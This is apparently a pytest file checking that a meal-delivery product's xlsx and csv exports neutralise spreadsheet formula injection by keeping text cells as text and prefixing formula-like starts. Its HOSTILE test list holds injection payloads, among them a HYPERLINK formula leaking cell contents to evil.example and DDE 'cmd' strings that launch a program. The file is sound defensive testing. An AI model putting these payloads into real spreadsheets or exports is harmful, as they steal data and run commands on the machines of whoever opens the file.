"""Exports cannot carry formulas: every text cell of every xlsx and csv the product writes stays text
(adapters/xlsx/text_cells.py, used by the order export's sinks and the clients' workbook)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from adapters.xlsx.client_list import render_client_list
from adapters.xlsx.table_files import CsvTableSink, XlsxTableSink
from adapters.xlsx.text_cells import FORMULA_STARTS, csv_text
from soepkern.domain.order_export import ExportColumn, Kind
from soepkern.services.delivery_lists_admin import ClientSheet

TZ = ZoneInfo("Europe/Amsterdam")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "#N/A",
]
COLUMNS = [ExportColumn("Klant", Kind.TEXT, 20), ExportColumn("Porties", Kind.INTEGER, 5)]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _assert_all_text(data: bytes, expected: list[str]) -> None:
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)  # not one formula in the file
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in expected:
        cell = cells[text.replace("\r", "\n")]  # XML reads a carriage return back as a line feed
        assert cell.data_type == "s"
        if text.startswith(FORMULA_STARTS):
            assert cell.quotePrefix  # stays text when someone edits the cell


@pytest.mark.parametrize("text", HOSTILE)
def test_the_order_export_xlsx_keeps_every_text_as_text(tmp_path: Path, text: str) -> None:
    path = tmp_path / "bestellingen.xlsx"
    sink = XlsxTableSink(path, "Bestellingen", COLUMNS, TZ)
    sink.append([text, 2])
    sink.close()
    _assert_all_text(path.read_bytes(), [text])


@pytest.mark.parametrize("text", HOSTILE)
def test_the_order_export_csv_prefixes_formula_starts(tmp_path: Path, text: str) -> None:
    path = tmp_path / "bestellingen.csv"
    sink = CsvTableSink(path, [*COLUMNS, ExportColumn("Totaal", Kind.EURO, 8)], TZ)
    sink.append([text, -3, -150])
    sink.close()
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    field = rows[1][0]
    assert field == (f"'{text}" if text[0] in "=+-@\t\r" else text)
    assert rows[1][1:] == ["-3", "-1,50"]  # numbers and amounts are ours, never prefixed


def test_the_clients_workbook_keeps_every_text_as_text() -> None:
    sheet = ClientSheet(
        title="=Klanten",
        day=date(2026, 11, 24),
        header=["Naam", "-Bedrijf", "Porties"],
        rows=[[text, "@bedrijf", 2] for text in HOSTILE],
        totals=["Totaal", "", 2 * len(HOSTILE)],
        number_columns=[2],
    )
    _assert_all_text(render_client_list(sheet), [*HOSTILE, "=Klanten", "-Bedrijf", "@bedrijf"])


@given(st.text())
def test_csv_text_never_starts_like_a_formula_and_keeps_the_text(text: str) -> None:
    cleaned = csv_text(text)
    assert not cleaned.startswith(FORMULA_STARTS)
    assert cleaned.removeprefix("'") == text or cleaned == text
